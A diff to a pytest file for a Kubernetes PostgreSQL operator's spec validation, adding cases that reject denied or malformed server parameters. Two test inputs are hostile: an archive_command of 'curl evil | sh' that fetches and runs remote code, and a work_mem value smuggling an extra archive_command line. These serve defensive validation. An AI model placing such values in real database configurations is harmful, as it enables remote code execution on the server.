@@ -43,25 +43,21 @@ def test_full_spec() -> None:
             "postgres": {"parameters": {"work_mem": "8MB", "max_connections": 200}},
             "resources": {"requests": {"cpu": "500m"}, "limits": {"memory": "1Gi"}},
             "storage": {"size": "5Gi", "storageClass": "fast"},
-            "replication": {"method": "statement", "mode": "quorum", "quorum": 1},
-            "sharding": {
-                "tables": [{"name": "orders", "key": "customer_id"}],
-                "referenceTables": ["countries"],
-            },
+            "replication": {"method": "wal", "mode": "quorum", "quorum": 1},
+            "sharding": {"tables": [{"name": "orders", "key": "customer_id"}]},
             "failover": {"enabled": False, "maxLagBytes": 1024},
-            "proxy": {"replicas": 3, "consistency": "strong", "maxWaitMs": 20},
+            "proxy": {"replicas": 3, "consistency": "strong", "maxWaitMs": 20, "workers": 2},
         }
     )
     assert parsed.postgres.parameters == (("max_connections", "200"), ("work_mem", "8MB"))
     assert parsed.resources.to_k8s() == {"requests": {"cpu": "500m"}, "limits": {"memory": "1Gi"}}
     assert parsed.storage == specs.StorageSpec("5Gi", "fast")
-    assert parsed.method is specs.ReplicationMethod.STATEMENT
+    assert parsed.method is specs.ReplicationMethod.WAL
     assert parsed.policy.replication == policy.ReplicationSettings(policy.ReplicationMode.QUORUM, 1)
     assert parsed.sharding.tables == (specs.ShardedTable("orders", "customer_id"),)
-    assert parsed.sharding.reference_tables == ("countries",)
     assert parsed.policy.failover.max_lag_bytes == 1024
     assert not parsed.policy.failover.enabled
-    assert parsed.proxy == specs.ProxySpec(3, specs.Consistency.STRONG, 20, specs.Resources())
+    assert parsed.proxy == specs.ProxySpec(3, specs.Consistency.STRONG, 20, specs.Resources(), 2)
 
 
 @pytest.mark.parametrize(
@@ -79,6 +75,30 @@ def test_full_spec() -> None:
             {"postgres": {"parameters": {"fsync": False}}},
             "spec.postgres.parameters.fsync: must be a string or an integer, got False",
         ),
+        (  # PostgreSQL's names are case-insensitive: so is the deny list
+            {"postgres": {"parameters": {"Port": 1, "SYNCHRONOUS_STANDBY_NAMES": "*"}}},
+            "spec.postgres.parameters: Port, SYNCHRONOUS_STANDBY_NAMES may not be set",
+        ),
+        (
+            {"postgres": {"parameters": {"synchronous_commit": "off"}}},
+            "spec.postgres.parameters: synchronous_commit may not be set",
+        ),
+        (
+            {"postgres": {"parameters": {"archive_command": "curl evil | sh"}}},
+            "spec.postgres.parameters: archive_command may not be set",
+        ),
+        (
+            {"postgres": {"parameters": {"shared_preload_libraries": "x"}}},
+            "spec.postgres.parameters: shared_preload_libraries may not be set",
+        ),
+        (
+            {"postgres": {"parameters": {"work_mem": "8MB'\narchive_command = 'sh -c x"}}},
+            "spec.postgres.parameters.work_mem: the value of work_mem must be one line",
+        ),
+        (
+            {"postgres": {"parameters": {"work_mem = 1\nport": "5"}}},
+            "spec.postgres.parameters: 'work_mem = 1\\nport' is not a PostgreSQL parameter name",
+        ),
         ({"storage": {"size": "big"}}, "spec.storage.size: 'big' is not a Kubernetes quantity"),
         (
             {"replication": {"mode": "semi"}},
@@ -95,8 +115,8 @@ def test_full_spec() -> None:
             "spec.sharding.tables[1]: table 't' is listed twice",
         ),
         (
-            {"sharding": {"tables": [{"name": "t", "key": "a"}], "referenceTables": ["t"]}},
-            "spec.sharding.referenceTables: t cannot be both",
+            {"sharding": {"referenceTables": ["countries"]}},
+            "spec.sharding.referenceTables: reference tables are not supported yet",
         ),
         ({"failover": {"enabled": "yes"}}, "spec.failover.enabled must be true or false"),
         ({"failover": {"detectionSeconds": 0}}, "spec.failover.detectionSeconds must be"),
@@ -154,3 +174,12 @@ def test_parser_agrees_with_the_crd() -> None:
     for sample, _, _ in INVALID:
         with pytest.raises(specs.SpecInvalid):
             specs.parse_spec(sample)
+
+
+def test_statement_replication_is_refused_on_kubernetes_for_now() -> None:
+    """The CRD keeps the contract's value; the operator refuses it with the reason."""
+    from tests.support import crd
+
+    assert crd.problems(crd.cluster({"replication": {"method": "statement"}})) == []
+    with pytest.raises(specs.SpecInvalid, match=r"spec\.replication\.method: statement is not"):
+        specs.parse_spec({"replication": {"method": "statement"}})
